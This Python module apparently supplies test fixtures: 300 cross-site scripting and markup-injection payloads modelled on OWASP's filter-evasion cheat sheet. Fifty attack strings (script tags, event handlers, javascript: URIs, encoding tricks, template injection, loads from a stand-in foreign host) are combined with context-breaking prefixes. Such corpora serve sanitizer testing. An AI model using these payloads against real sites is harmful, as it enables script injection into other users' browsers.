"""300 texts that would run, ask or lead astray wherever markup is made of text.

Kinds after OWASP's "XSS Filter Evasion Cheat Sheet", each with what leaves several contexts.
"""

FOREIGN = "http://foreign.example"

# What would act, as markup. Each opens a dialog, leaves a mark, or asks another site.
ACTS = (
    "<script>alert(1)</script>",
    "<script>window.pwned=1</script>",
    f"<script src={FOREIGN}/a.js></script>",
    "<img src=x onerror=alert(2)>",
    f"<img src={FOREIGN}/b.png>",
    "<svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    f"<svg><image href={FOREIGN}/c.svg /></svg>",
    "<body onload=alert(5)>",
    f"<iframe src={FOREIGN}/d></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:alert(6)></iframe>",
    "<a href=javascript:alert(7) autofocus onfocus=alert(8)>x</a>",
    "<input autofocus onfocus=alert(9)>",
    "<details open ontoggle=alert(10)>",
    f"<video poster={FOREIGN}/e src={FOREIGN}/f autoplay></video>",
    f"<audio src={FOREIGN}/g autoplay onloadstart=alert(11)></audio>",
    f"<object data={FOREIGN}/h></object>",
    f"<embed src={FOREIGN}/i>",
    f"<link rel=stylesheet href={FOREIGN}/j.css>",
    f"<style>@import '{FOREIGN}/k.css';*{{background:url({FOREIGN}/l)}}</style>",
    f"<p style='background:url({FOREIGN}/m)'>x</p>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}/n'>",
    f"<base href={FOREIGN}/>",
    f"<form action={FOREIGN}/o><input type=submit id=pwn></form>",
    f"<button formaction={FOREIGN}/p form=search>x</button>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(12)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(13)>'>",
    "<ScRiPt>alert(14)</sCrIpT>",
    "<scr<script>ipt>alert(15)</scr</script>ipt>",
    "&lt;script&gt;alert(16)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(17)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(18)%3C/script%3E",
    "＜script＞alert(19)＜/script＞",
    "<\x00script>alert(20)</script>",
    "<img\tsrc=x\nonerror=alert(21)>",
    "{{constructor.constructor('alert(22)')()}}",
    "{{7*7}}{% for x in config %}{{x}}{% endfor %}",
    "${alert(23)}`${alert(24)}`",
    "javascript:alert(25)//",
    "data:text/html,<script>alert(26)</script>",
    "<!--><img src=x onerror=alert(27)>-->",
    "<![CDATA[<script>alert(28)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(29)'?>",
    "<x xmlns='http://www.w3.org/1999/xhtml'><script>alert(30)</script></x>",
    f"<link rel=prefetch href={FOREIGN}/q><link rel=dns-prefetch href=//foreign.example>",
    f"<img srcset='{FOREIGN}/r 1x' loading=eager>",
    f"<a ping={FOREIGN}/s href=/ id=pinged>x</a>",
    "<template><script>alert(31)</script></template>",
    "\u202e<script>alert(32)</script>\u2066",
)

# What stands before, to leave the place that a text is put into.
BREAKS = ("", '">', "'>", "</title></textarea></style></script>", "--></q></mark>", '"}]</script>')

PAYLOADS = tuple(f"{before}{act}" for act in ACTS for before in BREAKS)
